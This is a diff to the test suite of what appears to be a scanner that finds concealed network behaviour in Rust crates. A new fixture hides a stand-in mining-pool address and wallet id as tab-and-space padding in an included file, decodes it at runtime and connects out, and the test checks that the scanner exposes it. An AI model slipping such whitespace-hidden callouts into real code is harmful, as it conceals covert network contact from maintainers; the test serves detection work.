@@ -16,7 +16,7 @@ from cratewatch.scan.interpret import (
     Definitions,
     Interpreter,
     Spent,
-    hidden_text,
+    hidden_texts,
 )
 
 
@@ -24,7 +24,7 @@ def _probe(source: str, call: str) -> tuple[Interpreter, str, list[Any]]:
     text = source + f"\nfn __probe() {{ {call}; }}\n"
     definitions = Definitions()
     function_headers("src/lib.rs", text.encode(), {}, definitions)
-    probe = definitions.functions["__probe"][0]
+    _, probe = definitions.functions["__probe"][0]
     node = probe.child_by_field_name("body").named_child(0).named_child(0)
     name = node.child_by_field_name("function").text.decode().rsplit("::", 1)[-1]
     arguments = list(node.child_by_field_name("arguments").named_children)
@@ -35,7 +35,8 @@ def run(source: str, call: str) -> str | None:
     """What ``call`` returns when it is hidden text, else None."""
     interpreter, name, arguments = _probe(source, call)
     outcome = interpreter.call(name, arguments)
-    return None if outcome is None else hidden_text(outcome)
+    texts = [] if outcome is None else hidden_texts(outcome)
+    return texts[0] if texts else None
 
 
 # -- encodings no list of decoders has
@@ -355,3 +356,43 @@ pub async fn list() { let _ = reqwest::get(endpoint(2)).await; }
 """
     found = unit_flows({"src/lib.rs": source.encode()}, "sample")
     assert found.revealed == [] and found.flows == []
+
+
+def test_whitespace_in_an_included_file_and_a_tuple_of_results() -> None:
+    bits = "".join(f"{byte:08b}" for byte in b"pool.example:3333|wallet42")
+    padded = "".join(
+        f"const L{i}: u8 = 0;" + bits[i : i + 8].replace("0", " ").replace("1", "\t") + "\n"
+        for i in range(0, len(bits), 8)
+    )
+    source = """
+fn parameters() -> (String, String) {
+    let mut out = Vec::new();
+    for line in include_str!("table.rs").lines() {
+        let body = line.trim_end_matches([' ', '\\t']);
+        let pad = &line[body.len()..];
+        if pad.len() == 8 {
+            out.push(pad.bytes().fold(0u8, |acc, c| (acc << 1) | (c == b'\\t') as u8));
+        }
+    }
+    let text = String::from_utf8(out).unwrap_or_default();
+    let (a, b) = text.split_once('|').unwrap_or(("", ""));
+    (a.to_string(), b.to_string())
+}
+pub fn calibrate() {
+    let (service, _id) = parameters();
+    let _ = std::net::TcpStream::connect(&service);
+}
+"""
+    files = {"src/lib.rs": source.encode(), "src/table.rs": padded.encode()}
+    found = unit_flows(files, "sample")
+    assert [r.text for r in found.revealed] == ["pool.example:3333", "wallet42"]
+    assert [(f.action, f.hidden) for f in found.flows] == [("contact", True)]
+
+
+def test_a_piece_of_a_literal_is_in_plain_sight() -> None:
+    source = """
+fn first(s: &str) -> String { s.split_once(' ').map(|(a, _)| a.to_string()).unwrap_or_default() }
+fn shout(s: &str) -> String { s.to_uppercase() }
+"""
+    assert run(source, 'first("telemetry endpoint")') is None
+    assert run(source, 'shout("x-api-key")') is None
